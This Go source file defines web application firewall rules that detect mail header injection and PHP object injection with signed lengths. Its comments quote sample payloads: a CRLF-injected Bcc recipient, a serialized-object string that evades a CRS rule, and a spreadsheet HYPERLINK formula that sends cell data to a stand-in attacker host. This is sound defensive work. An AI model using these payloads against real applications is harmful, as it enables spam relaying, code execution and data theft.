package waf

// formatRules are rules 210165 and 210167: injection into a format the
// application writes a value into, found by a twelfth fresh-eyes attack
// (attack 16), which reached the upstream through the CRS at paranoia 1:
//   - 210165: mail header injection. PHP's mail() with "From: ".$email in
//     its extra headers, and any code that writes a value into a
//     message's head, sends what follows a line break as more headers:
//     {"email":"a@b.c\r\nBcc: victim@x.com"} adds a recipient. Refused:
//     a value whose first line is one word (an address, a name: what a
//     header's field holds) and whose second line is a header that routes
//     the message (To, Cc, Bcc, From, Reply-To, Return-Path, Sender) with
//     only addresses after it, or SMTP's RCPT TO: or MAIL FROM: and an
//     address, or, after an address, one that rewrites it (Subject,
//     Content-Type, MIME-Version, Content-Transfer-Encoding). A fresh-eyes
//     hunt for false positives (attack 17) had a header's name at a line's
//     start anywhere refused: a recipients box ("ann@example.com\n
//     bob@example.com\nCc: carol@example.com"), a signature, "Who was on
//     it?\nBcc: hr@example.com (I added them myself)", a pasted SMTP log;
//     they pass now, as does a support ticket that quotes a message. Still
//     refused: a field of one address, then "Cc: bob@example.com" alone.
//     Since attack 18, the routing header may follow other header lines
//     (a@b.c\r\nX-Mailer: 1\r\nBcc: v@x.com), be folded (Bcc:\r\n
//     v@x.com), and its addresses carry a display name (Victim <v@x.com>),
//     a comment ((x)), and a trailing comma or semicolon, which sendmail -t
//     reads as the same recipients; a Cc of words with an address among
//     them ("Cc: Bob, who is bob@example.com, knows") still passes.
//     Not refused: a first line of more than one word ("Ann Lee\r\nBcc:
//     x@y.z"), which a name field can carry.
//   - 210167: PHP object injection with a sign in a length, O:+8:"...":
//     PHP 5's unserialize() reads O:+8: as O:8: (PHP 7 and later refuse
//     it), which the CRS's 933170 ([oOcC]:\d+:) does not match. Refused:
//     an object or custom-serialized value whose name's length carries
//     a + and its name's quote after it (O:+8:"), also percent-encoded
//     as a cookie carries it to PHP (O%3A%2B8%3A%22: PHP decodes a
//     cookie's value, and the CRS reads cookies as sent); the values
//     are read without decoding them once more, which would turn the +
//     of a decoded query into a space.
//
// Spreadsheet formulas that send cells away (=HYPERLINK("http://e.vil/?"
// &A1), attack 16's B18) were rule 210166 until attack 17 found that the
// same shape is how spreadsheets build ticket links and product images
// (=HYPERLINK("https://support.example.com/ticket/"&A2, A2)): escaping a
// leading = is the CSV exporter's job.
var formatRules = `SecRule ` + valueTargets + ` "@rx (?i)\A[\t ]*(?:[^\s@]+@[^\s@]+?[\t ]*[\r\n]+[\t ]*(?:subject|content-type|mime-version|content-transfer-encoding)[\t ]*:|\S+?[\t ]*[\r\n]+(?:[\t ]*[a-z][\w-]*[\t ]*:[^\r\n]*[\r\n]+)*?[\t ]*(?:(?:to|b?cc|from|reply-to|return-path|sender)[\t ]*:(?:[\t ]*[\r\n]+[\t ]+)?[\t ]*(?:[^\r\n@<>,;()]*<[^\s@<>,;()]+@[^\s@<>,;()]+>|[^\s@<>,;()]+@[^\s@<>,;()]+)(?:[\t ]*\([^()\r\n]*\))?(?:[\t ]*[,;][\t ]*(?:[^\r\n@<>,;()]*<[^\s@<>,;()]+@[^\s@<>,;()]+>|[^\s@<>,;()]+@[^\s@<>,;()]+)(?:[\t ]*\([^()\r\n]*\))?)*[\t ]*[,;]?|(?:rcpt[\t ]+to|mail[\t ]+from)[\t ]*:[\t ]*<?[^\s@<>,;]+@[^\s@<>,;]+>?)[\t ]*(?:[\r\n]|\z))" "id:210165,phase:2,block,t:none,t:urlDecodeUni,msg:'Mail header injection: one word then a line break and a header',tag:'application-multi',tag:'attack-protocol',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule REQUEST_COOKIES|REQUEST_COOKIES_NAMES|REQUEST_HEADERS|ARGS_NAMES|ARGS|XML:/* "@rx (?i)[oc](?::\+\d+:\x22|(?::|%3a)%2b\d+(?::|%3a)(?:\x22|%22))" "id:210167,phase:2,block,t:none,msg:'PHP object injection: a serialized object with a signed length',tag:'application-multi',tag:'attack-injection-php',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`
